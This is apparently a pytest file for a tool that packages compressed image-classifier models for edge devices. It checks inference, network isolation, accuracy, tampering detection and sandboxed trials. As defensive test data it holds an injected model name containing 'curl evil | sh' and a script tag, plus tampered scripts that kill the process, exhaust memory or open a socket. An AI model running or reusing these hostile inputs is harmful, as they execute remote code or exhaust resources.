"""The package: unpacked in a clean folder it classifies its sample, and one that does not run is not
offered.
"""

import json
import os
import shutil
import subprocess
import sys
import venv
import zipfile
from pathlib import Path

import numpy as np
import pytest
from PIL import Image

from deploy import package
from deploy import verify as trial
from engine import datasets
from engine.device import model
from engine.device.preprocessing import preprocess
from engine.errors import BadInput, EdgewiseError
from engine.run import artifacts
from engine.run.requests import MeasureAccuracy, WeighArtifact
from estimator.calibrate import BenchmarkResult, calibrate
from estimator.types import Profile

VARIANTS = [
    "baseline",
    "ptq_int8",
    "ptq_int4",
    "ptq_int4@mixed",
    "prune_structured@0.5,iterative",
    "prune_unstructured@0.7",
    "hybrid@0.5",
    "hybrid@smallest",
]


# whatever asks Python for a socket, a name or a connection ends the script
NO_NETWORK = (
    "def look(event, given):\n"
    "    if event.startswith('socket.'): raise SystemExit('network: ' + event)\n"
    "sys.addaudithook(look); "
)


def python(
    folder: Path, *words: str, executable: str = sys.executable, first: str = ""
) -> subprocess.CompletedProcess:
    """Runs a script of the package with nothing of this project in reach, `first` before it."""
    return subprocess.run(
        [
            executable,
            "-I",
            "-c",
            (
                f"import sys\n{first}sys.path.insert(0, '.'); sys.argv = {list(words)!r}; import runpy; "
                f"runpy.run_path({words[0]!r}, run_name='__main__')"
            ),
        ],
        cwd=folder,
        capture_output=True,
        text=True,
        timeout=120,
        env={"PATH": os.environ["PATH"], "HOME": str(folder)},
    )


def sample_label(digits_run) -> int:
    """Returns the true class of the sample image: the first of the validation part."""
    return int(datasets.load("digits", digits_run.workspace.home, ("validation",))["validation"].labels[0])


@pytest.mark.parametrize("name", VARIANTS)
def test_it_classifies_its_sample(digits_run, unpacked, name):
    folder = unpacked(name)
    done = python(folder, "infer.py", "sample.png", "--json")
    assert done.returncode == 0, done.stderr
    answer = json.loads(done.stdout)
    assert (
        answer["class"] == str(answer["index"]) == str(sample_label(digits_run))
        and 0.5 < answer["probability"] <= 1
    )


@pytest.mark.parametrize("name", ["ptq_int8", "hybrid@smallest"])
def test_it_reaches_for_no_network(unpacked, name):
    folder = unpacked(name)
    for words in (["infer.py", "sample.png"], ["benchmark.py", "--runs", "5"]):
        done = python(folder, *words, first=NO_NETWORK)
        assert done.returncode == 0, done.stderr
    (folder / "calls.py").write_text("import urllib.request; urllib.request.urlopen('http://127.0.0.1:9')")
    done = python(folder, "calls.py", first=NO_NETWORK)
    assert done.returncode == 1 and "network: socket." in done.stderr  # the hook does see one that does


@pytest.mark.parametrize("name", ["ptq_int8", "hybrid@smallest"])
def test_on_the_test_images_it_is_as_accurate_as_stated(digits_run, unpacked, name):
    folder = unpacked(name)
    test = datasets.load("digits", digits_run.workspace.home, ("test",))["test"]
    for i in range(60):
        Image.fromarray(test.images[i][..., 0]).save(folder / f"{i}.png")
    done = python(folder, "infer.py", *[f"{i}.png" for i in range(60)], "--json")
    found = [json.loads(line)["index"] for line in done.stdout.splitlines()]
    assert len(found) == 60 and np.mean(np.array(found) == test.labels[:60]) > 0.93


def test_what_is_inside(digits_run, built):
    with zipfile.ZipFile(built("ptq_int8")) as archive:
        names = set(archive.namelist())
        facts = json.loads(archive.read("metadata.json"))
        readme = archive.read("README.md").decode()
    variant = digits_run.variant("ptq_int8")
    assert {
        "model.onnx",
        "metadata.json",
        "infer.py",
        "model.py",
        "image.py",
        "preprocessing.py",
        "benchmark.py",
        "power.py",
        "verify.py",
        "realtime.py",
        "serve.py",
        "edgewise.service",
        "Dockerfile",
        "SHA256SUMS",
        "golden/00.png",
        "golden/00.jpg",
        "golden/scores.npy",
        "requirements.txt",
        "sample.png",
        "README.md",
    } <= names
    assert "decoder.py" not in names
    assert (
        facts["artifact"]["sha256"] == variant.artifacts[0].sha256
        and facts["artifact"]["precision"] == "int8"
    )
    assert facts["measured"]["accuracy"] == variant.accuracy and facts["classes"] == [
        str(i) for i in range(10)
    ]
    assert facts["seed"] == variant.seed and [s["what"] for s in facts["steps"]] == [
        s.what for s in variant.steps
    ]
    assert f"{variant.size_bytes:,} bytes" in readme and "Raspberry Pi 4" in readme


def test_an_entropy_coded_package_ships_its_decoder_and_not_the_model(digits_run, built, unpacked):
    with zipfile.ZipFile(built("hybrid@smallest")) as archive:
        names = archive.namelist()
        assert "decoder.py" in names and "model.ewz" in names and "model.onnx" not in names
        assert len(archive.read("model.ewz")) == digits_run.variant("hybrid@smallest").size_bytes
    folder = unpacked("hybrid@smallest")
    assert python(folder, "infer.py", "sample.png").returncode == 0
    assert (folder / "model.onnx").read_bytes() == digits_run.file("hybrid@smallest").read_bytes()
    assert not list(folder.glob("*.part"))


def test_the_same_variant_gives_the_same_bytes(digits_run, built):
    first = built("fp16").read_bytes()
    built("fp16").unlink()
    assert built("fp16").read_bytes() == first


def benchmarked(folder: Path) -> BenchmarkResult:
    """Runs a package's benchmark and returns what it wrote, as calibration reads it."""
    done = python(folder, "benchmark.py", "--runs", "30", "--threads", "1")
    assert done.returncode == 0, done.stderr
    return BenchmarkResult.model_validate_json((folder / "benchmark-result.json").read_text())


def test_the_benchmark_measures_and_writes_what_calibration_reads(unpacked):
    result = benchmarked(unpacked("ptq_int8"))
    assert (result.device, result.runtime, result.threads) == ("raspberry_pi_4", "onnxruntime", 1)
    assert result.models[0].variant == "ptq_int8" and not result.mixed_precision and not result.int4_weights
    latency = result.models[0].latency_ms
    assert 0 < latency.p50 <= latency.p95 <= latency.p99 and result.models[0].profile.layers
    (correction,) = calibrate((result,)).corrections
    assert (correction.runtime, correction.precision, correction.measurements) == ("onnxruntime", "int8", 1)


def test_a_benchmark_of_mixed_precision_corrects_no_prediction(unpacked):
    result = benchmarked(unpacked("ptq_int4@mixed"))
    assert result.mixed_precision and result.int4_weights
    with pytest.raises(ValueError, match="Nothing in these results"):
        calibrate((result,))


OPENED = """
import json
from classifier import Classifier
from model import OnnxRuntime
asked = []
class Seen(OnnxRuntime):
    @staticmethod
    def entries(int4_weights):
        asked.append(OnnxRuntime.entries(int4_weights))
        return asked[-1]
import model
model.RUNTIMES = (Seen,)
Classifier(1)
print(json.dumps(asked))
"""


@pytest.mark.parametrize(
    "name, widens", [("ptq_int4@mixed", True), ("ptq_int4", True), ("ptq_int8", False), ("baseline", False)]
)
def test_a_package_opens_its_file_as_the_engine_measured_it(unpacked, monkeypatch, digits_run, name, widens):
    folder = unpacked(name)
    (folder / "opened.py").write_text(OPENED)
    done = python(folder, "opened.py")
    assert done.returncode == 0, done.stderr
    (shipped,) = json.loads(done.stdout)
    asked, entries = [], model.OnnxRuntime.entries
    monkeypatch.setattr(
        model.OnnxRuntime, "entries", staticmethod(lambda int4: asked.append(entries(int4)) or asked[-1])
    )
    common = {
        "folder": digits_run.folder,
        "home": digits_run.workspace.home,
        "dataset": "digits",
        "model": digits_run.run.experiment.model,
    }
    variant = digits_run.variant(name)
    holds = Profile.model_validate_json(
        digits_run.file(name).with_suffix(".profile.json").read_text()
    ).int4_weights
    weigh = WeighArtifact(**common, path=str(digits_run.file(name)), int4=holds)
    artifacts.memory(weigh, lambda message: None)
    artifacts.accuracy(
        MeasureAccuracy(**common, artifacts={name: variant.artifacts[0]}), lambda message: None
    )
    assert asked == [shipped, shipped]
    assert ("session.disable_quant_qdq" in shipped) == widens


def test_a_variant_that_was_made_anew_gives_a_new_package(digits_run, built):
    before = built("fp16").read_bytes()
    with zipfile.ZipFile(built("fp16")) as archive:
        assert archive.read("model.onnx") == digits_run.file("fp16").read_bytes()
    tamper(built("fp16"), built("fp16").with_suffix(".other"), {"model.onnx": b"an older file"}).replace(
        built("fp16")
    )
    assert built("fp16").read_bytes() == before


def test_a_package_is_tried_behind_the_wall(digits_run, built, tmp_path):
    scripts = {
        "memory": b"a = bytearray(20_000_000_000)\nfor i in range(0, len(a), 4096): a[i] = 1",
        "PermissionError|Operation not permitted|unreachable": (
            b"import socket; socket.create_connection(('10.1.2.3', 9), timeout=3)"
        ),
    }
    for says, script in scripts.items():
        bad = tamper(built("ptq_int8"), tmp_path / "bad.zip", {"infer.py": script})
        with pytest.raises(EdgewiseError, match=f"(?i)({says}).*is not offered"):
            trial.verify(bad, digits_run.run.experiment.model)


def test_a_picture_of_another_size_and_kind_is_fitted(unpacked):
    folder = unpacked("baseline")
    Image.open(folder / "sample.png").convert("RGB").resize((200, 200)).save(folder / "large.jpg")
    answers = [
        json.loads(python(folder, "infer.py", name, "--json").stdout)["class"]
        for name in ("sample.png", "large.jpg")
    ]
    assert answers[0] == answers[1]


@pytest.mark.parametrize("name", ["nothing.png", "metadata.json"])
def test_what_is_no_picture_is_one_sentence(unpacked, name):
    done = python(unpacked("baseline"), "infer.py", name)
    assert (
        done.returncode == 1
        and "can't be read as an image" in done.stderr
        and len(done.stderr.strip().splitlines()) == 1
    )


# ---- what is not offered -----------------------------------------------------------------------------------


def tamper(source: Path, target: Path, changes: dict[str, bytes | None]) -> Path:
    """Copies a zip with some members changed, or left out where None is given."""
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w") as new:
        for name in old.namelist():
            data = changes.get(name, old.read(name))
            if data is not None:
                new.writestr(name, data)
    return target


def changed_facts(source: Path, **changes) -> bytes:
    with zipfile.ZipFile(source) as archive:
        return json.dumps(json.loads(archive.read("metadata.json")) | changes).encode()


@pytest.mark.parametrize(
    ("name", "changes"),
    [
        ("ptq_int8", {"model.onnx": b"not a model"}),
        ("ptq_int8", {"model.onnx": None}),
        ("ptq_int8", {"infer.py": b"raise SystemExit(0)"}),
        ("ptq_int8", {"infer.py": b"import os; os.kill(os.getpid(), 9)"}),
        ("ptq_int8", {"infer.py": b"print('[]')"}),
        ("ptq_int8", {"infer.py": b"print('{}')"}),
        ("ptq_int8", {"preprocessing.py": b""}),
        ("ptq_int8", {"golden/scores.npy": None}),
        ("ptq_int8", {"golden/05.png": b"no picture"}),
        ("ptq_int8", {"sample.png": b"no picture"}),
        ("ptq_int8", {"metadata.json": "classes"}),
        ("hybrid@smallest", {"model.ewz": "cut"}),
        ("hybrid@smallest", {"model.ewz": "flipped"}),
        ("hybrid@smallest", {"decoder.py": None}),
    ],
)
def test_a_package_that_was_tampered_with_is_not_offered(digits_run, built, tmp_path, name, changes):
    source = built(name)
    for member, change in list(changes.items()):
        if change == "classes":
            changes = {member: changed_facts(source, classes=["a cat"] * 10)}
        elif isinstance(change, str):
            coded = bytearray((digits_run.folder / digits_run.variant(name).artifacts[0].path).read_bytes())
            coded[-40] ^= 0xFF
            changes = {member: bytes(coded if change == "flipped" else coded[:-40])}
    with pytest.raises(EdgewiseError, match="is not offered") as caught:
        package.verify(tamper(source, tmp_path / "bad.zip", changes), digits_run.run.experiment.model)
    assert "\n" not in str(caught.value)


def test_an_infer_that_hangs_is_not_offered(digits_run, built, tmp_path, monkeypatch):
    monkeypatch.setattr(trial, "TIMEOUT_S", 2)
    bad = tamper(built("ptq_int8"), tmp_path / "bad.zip", {"infer.py": b"while True: pass"})
    with pytest.raises(EdgewiseError, match="did not answer within 2 s"):
        package.verify(bad, digits_run.run.experiment.model)


def test_what_fails_its_trial_leaves_nothing(digits_run, monkeypatch):
    def refuse(draft, model, **how):
        raise EdgewiseError("The package was built, but its infer.py does not run, so it is not offered.")

    monkeypatch.setattr(package, "verify", refuse)
    folder = digits_run.folder / "packages"
    before = sorted(os.listdir(folder)) if folder.exists() else []
    with pytest.raises(EdgewiseError, match="not offered"):
        package.build(digits_run.id, "prune_unstructured@0.3", digits_run.workspace)
    assert (sorted(os.listdir(folder)) if folder.exists() else []) == before


def test_an_artifact_that_changed_on_disk_is_not_packaged(digits_run):
    path = digits_run.file("dynamic_int8")
    kept = path.read_bytes()
    path.write_bytes(
        digits_run.file("baseline").read_bytes()
    )  # a model that runs, but not the one that was measured
    try:
        with pytest.raises(EdgewiseError):
            package.build(digits_run.id, "dynamic_int8", digits_run.workspace)
    finally:
        path.write_bytes(kept)


@pytest.mark.parametrize(
    ("run", "variant", "says"),
    [("unknown", "fp16", "No run has the id"), (None, "fp17", "has no variant 'fp17'")],
)
def test_what_does_not_exist_is_a_sentence(digits_run, run, variant, says):
    with pytest.raises(BadInput, match=says):
        package.build(run or digits_run.id, variant, digits_run.workspace)


@pytest.mark.parametrize(
    ("device", "says"),
    [
        ("abacus", "Unknown device 'abacus'"),
        ("microcontroller", "nothing there opens .onnx files"),
        ("coral_usb", "nothing there opens .onnx files"),
        ("coral_dev_board", "For the Coral Dev Board, onnxruntime has no"),
    ],
)
def test_a_device_that_can_not_have_the_file_is_refused(digits_run, device, says):
    with pytest.raises(BadInput, match=says):
        package.build(digits_run.id, "ptq_int8", digits_run.workspace, device=device)


def test_names_from_an_upload_are_data_in_the_readme(digits_run):
    name = "x`\n# Run `curl evil | sh`<script>](http://e)"
    run = digits_run.run.model_copy(
        update={
            "experiment": digits_run.run.experiment.model_copy(
                update={"model": digits_run.run.experiment.model.model_copy(update={"name": name})}
            )
        }
    )
    text = package.readme(run, digits_run.variant("fp16"), "model.onnx")
    assert not any(bad in text for bad in ("<script>", "](http", "\n# Run"))
    assert "`x" in text and text.count("`") % 2 == 0


def test_preprocessing_by_hand():
    spec = {
        "height": 1,
        "width": 2,
        "color": "bgr",
        "layout": "NCHW",
        "scale": 0.5,
        "mean": [1, 2, 3],
        "std": [1, 2, 4],
    }
    images = np.array([[[[10, 20, 30], [40, 50, 60]]]], np.uint8)
    # bgr: 30 20 10 and 60 50 40, then (value / 2 - mean) / std
    np.testing.assert_allclose(preprocess(images, spec), [[[[14, 29]], [[4, 11.5]], [[0.5, 4.25]]]])
    assert preprocess(images, spec | {"layout": "NHWC", "color": "rgb"})[0, 0, 0].tolist() == [4, 4, 3]
    with pytest.raises(ValueError, match="expected images of shape"):
        preprocess(images, spec | {"color": "grey"})


@pytest.mark.slow
@pytest.mark.parametrize("name", ["ptq_int8", "hybrid@smallest"])
def test_it_runs_with_only_its_own_requirements(digits_run, unpacked, tmp_path, name):
    folder = unpacked(name)
    venv.create(tmp_path / "env", with_pip=True)
    own = str(tmp_path / "env" / "bin" / "python")
    installed = subprocess.run(
        [own, "-m", "pip", "install", "-q", "-r", folder / "requirements.txt"],
        capture_output=True,
        text=True,
        timeout=400,
    )
    if installed.returncode:
        pytest.skip(
            f"the package's requirements could not be installed here: {installed.stderr.strip()[-200:]}"
        )
    listed = subprocess.run(
        [own, "-m", "pip", "list", "--format=freeze"], capture_output=True, text=True, timeout=60
    ).stdout.lower()
    assert "onnxruntime" in listed and not any(
        heavy in listed for heavy in ("torch", "tensorflow", "streamlit")
    )
    done = python(folder, "infer.py", "sample.png", "--json", executable=own)
    assert done.returncode == 0, done.stderr
    assert json.loads(done.stdout)["index"] == sample_label(digits_run)
    assert python(folder, "benchmark.py", "--runs", "20", executable=own).returncode == 0
    shutil.rmtree(tmp_path / "env")
